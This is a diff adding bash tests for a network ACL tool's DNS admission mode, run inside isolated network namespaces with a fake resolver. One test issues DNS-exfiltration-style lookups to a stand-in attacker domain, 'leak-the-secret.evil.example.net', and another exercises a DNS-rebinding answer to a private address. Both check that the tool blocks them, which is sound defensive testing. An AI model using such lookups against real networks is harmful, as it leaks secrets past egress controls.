@@ -1,0 +1,137 @@
+# Live DNS (dns: admit) on the real kernel, in private network namespaces:
+# public-looking addresses are local routes on the namespace's own lo
+# (93.184.0.0/16, 2606:2800::/32, all answered by one listener on port
+# 80), tests/dns/fakedns.py is the upstream on 127.0.0.1, and the
+# workload's resolv.conf (bind-mounted) names a resolver that does not
+# exist: only the capture can answer it.  No packet leaves the namespace.
+
+# in_world RESOLV_CONF_LINES SCRIPT: run SCRIPT (bash) in a fresh network
+# and mount namespace with the world above; DNSPORT is fakedns's port,
+# its query log is $T/qlog.  What SCRIPT prints is in $T/out.
+in_world() {
+  rm -f "$T/dns.port" "$T/qlog"
+  cat > "$T/world.sh" <<EOF
+set -e
+T=$T KT=$KT NETACL=$NETACL PROBE=$PROBE
+ip link set lo up
+ip route add local 93.184.0.0/16 dev lo
+ip -6 route add local 2606:2800::/32 dev lo
+$PY "$ROOT/tests/dns/fakedns.py" --port-file "$T/dns.port" --log "$T/qlog" 2>"$T/dns.err" &
+$PY -c '
+import socket, threading
+def serve(fam, addr):
+    s = socket.socket(fam)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    if fam == socket.AF_INET6:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+    s.bind((addr, 80)); s.listen(1024)
+    while True:
+        s.accept()[0].close()
+threading.Thread(target=serve, args=(socket.AF_INET6, "::"), daemon=True).start()
+serve(socket.AF_INET, "0.0.0.0")' &
+for i in \$(seq 100); do [ -s "$T/dns.port" ] && break; sleep 0.05; done
+DNSPORT=\$(cat "$T/dns.port")
+printf '%s\n' "$1" > "$T/resolv.conf"
+mount --bind "$T/resolv.conf" /etc/resolv.conf
+set +e
+export W="$PY $ROOT/tests/dns/workload.py"
+# run the target with fakedns upstream
+nrun() { "\$NETACL" run "\$T/p.yaml" --target "\$KT" --resolver 127.0.0.1:\$DNSPORT "\$@"; }
+$2
+kill \$(jobs -p) 2>/dev/null
+EOF
+  unshare -mn bash "$T/world.sh" > "$T/out" 2> "$T/err"
+  rc=$?
+}
+
+# dns_policy NAME [MORE YAML LINES]: an admit ACL named NAME
+dns_policy() {
+  { echo "version: 1"; echo "acls:"; echo "  $1:"; echo "    dns: admit"; echo "    allow:"
+    echo '      - "*.cdn.example.com:80"'
+    echo '      - "api.example.com:80"'
+    shift; for l in "$@"; do echo "$l"; done; } > "$T/p.yaml"
+}
+
+test_kernel_dns_rotating_answers_never_refused() {
+  need_kernel dnsrot; trap run_cleanup EXIT
+  dns_policy "$KT"
+  # 1,000 resolve-then-connect rounds, each answer a new address (TTL 1)
+  in_world "nameserver 192.0.2.53" "nrun -- \$W rounds 1000 rotate.cdn.example.com 4"
+  expect_rc 0 || { cat "$T/err" >&2; return 1; }
+  expect_out "rounds=1000 refused=0 failed=0" || { tail -5 "$T/err" >&2; return 1; }
+  [ "$(grep -c "udp A rotate.cdn.example.com" "$T/qlog")" -ge 1000 ] ||
+    fail "upstream saw $(grep -c rotate "$T/qlog") queries, not one per round"
+}
+
+test_kernel_dns_names_outside_the_policy_never_leave() {
+  need_kernel dnsnx; trap run_cleanup EXIT
+  dns_policy "$KT"
+  in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve leak-the-secret.evil.example.net; \$W resolve x.cdn.example.com; \$W raw 192.0.2.53 secret.evil.example.net'"
+  expect_rc 0 || return 1
+  expect_out "error: [Errno -2] Name or service not known" || return 1
+  expect_out "rcode=NXDOMAIN" || return 1
+  ! grep -q evil "$T/qlog" || fail "the upstream saw: $(grep evil "$T/qlog")"
+  grep -q "A x.cdn.example.com" "$T/qlog" || fail "an allowed name did not go upstream"
+  expect_err "query for leak-the-secret.evil.example.net refused: no rule allows it"
+}
+
+test_kernel_dns_only_answered_public_addresses_open() {
+  need_kernel dnsonly; trap run_cleanup EXIT
+  dns_policy "$KT" '      - "rebind.cdn.example.com:80"'
+  in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve a.cdn.example.com; \$W connect 93.184.77.77; \$W resolve rebind.cdn.example.com; \$W connect 192.168.1.10'"
+  expect_rc 0 || return 1
+  # a.cdn.example.com resolves to one address per family; others stay shut
+  [ "$(sed -n 2p "$T/out")" = EPERM ] || fail "an address never answered: $(sed -n 2p "$T/out")"
+  [ "$(sed -n 4p "$T/out")" = EPERM ] || fail "a rebinding answer opened 192.168.1.10"
+  expect_err "192.168.1.10 for rebind.cdn.example.com not admitted: special-purpose address private-use"
+}
+
+test_kernel_dns_transports_and_families() {
+  need_kernel dnstr; trap run_cleanup EXIT
+  dns_policy "$KT"
+  local w='$W rounds 20 t.cdn.example.com any; $W raw 192.0.2.53 u.cdn.example.com; $W raw 2001:db8::53 v.cdn.example.com AAAA; $W raw ::ffff:192.0.2.53 w.cdn.example.com'
+  # glibc over connected UDP, IPv4 resolver
+  in_world "nameserver 192.0.2.53" "nrun -- sh -c '$w'"
+  expect_rc 0 && expect_out "rounds=20 refused=0 failed=0" || return 1
+  # unconnected UDP: the reply shows the address asked, IPv4, IPv6, mapped
+  expect_out "from 192.0.2.53:53 id-ok rcode=NOERROR 93.184." || return 1
+  expect_out "from 2001:db8::53:53 id-ok rcode=NOERROR 2606:2800:" || return 1
+  expect_out "from ::ffff:192.0.2.53:53 id-ok rcode=NOERROR 93.184." || return 1
+  # glibc over TCP (use-vc), IPv6 resolver
+  in_world "nameserver 2001:db8::53
+options use-vc" "nrun -- \$W rounds 20 t.cdn.example.com any"
+  # (the resolver is unreachable but through the capture: TCP was captured)
+  expect_rc 0 && expect_out "rounds=20 refused=0 failed=0" || return 1
+}
+
+test_kernel_dns_admissions_expire_and_are_capped() {
+  need_kernel dnsexp; trap run_cleanup EXIT
+  dns_policy "$KT"
+  # TTL 1, no floor, 1 s of grace: refused 3 s later.  At most 4 per name:
+  # each lookup is answered an IPv4 and an IPv6 address, a1's pair goes.
+  in_world "nameserver 192.0.2.53" "nrun --dns-min-ttl 0 --dns-grace 1 --dns-max-per-name 4 -- sh -c '
+    a1=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2); \$W connect \$a1
+    a2=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2)
+    a3=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2)
+    \$W connect \$a1; \$W connect \$a2; \$W connect \$a3
+    sleep 3; \$W connect \$a3'"
+  expect_rc 0 || return 1
+  [ "$(tr '\n' ' ' < "$T/out")" = "ok EPERM ok ok EPERM " ] ||
+    fail "want ok (fresh), EPERM (past the cap), ok ok, EPERM (expired); got: $(tr '\n' ' ' < "$T/out")"
+}
+
+test_kernel_dns_no_forwarder_fails_closed() {
+  need_kernel dnsnofwd; trap run_cleanup EXIT
+  # the resolver's address is allowed too: captured DNS still may not go there
+  dns_policy "$KT" '      - "93.184.0.53:53"' '      - "[2606:2800::53]:53"'
+  mkdir -p "$CG2/$KCG"
+  load_ok "$T/p.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
+  # loaded, but nothing serves its DNS: lookups fail, nothing is admitted
+  in_world "nameserver 93.184.0.53" "$PROBE --cgroup $CG2/$KCG udp 93.184.0.53 53 tcp 93.184.0.53 53 udp 2606:2800::53 53 udp6 93.184.0.53 53 tcp 127.0.0.1 \$DNSPORT; \$W resolve x.cdn.example.com"
+  expect_rc 0 || return 1
+  [ "$(awk 'NR <= 5 { print $1, $2, $3, $4 }' "$T/out" | tr '\n' ' ')" = "udp 93.184.0.53 53 deny tcp 93.184.0.53 53 deny udp 2606:2800::53 53 deny udp6 93.184.0.53 53 deny tcp 127.0.0.1 $(cat "$T/dns.port") deny " ] ||
+    fail "got: $(cat "$T/out")"
+  [ "$(sed -n 6p "$T/out")" = "error: [Errno -3] Temporary failure in name resolution" ] ||
+    fail "a lookup: $(sed -n 6p "$T/out")"
+  [ ! -s "$T/qlog" ] || fail "the upstream was asked: $(cat "$T/qlog")"
+}
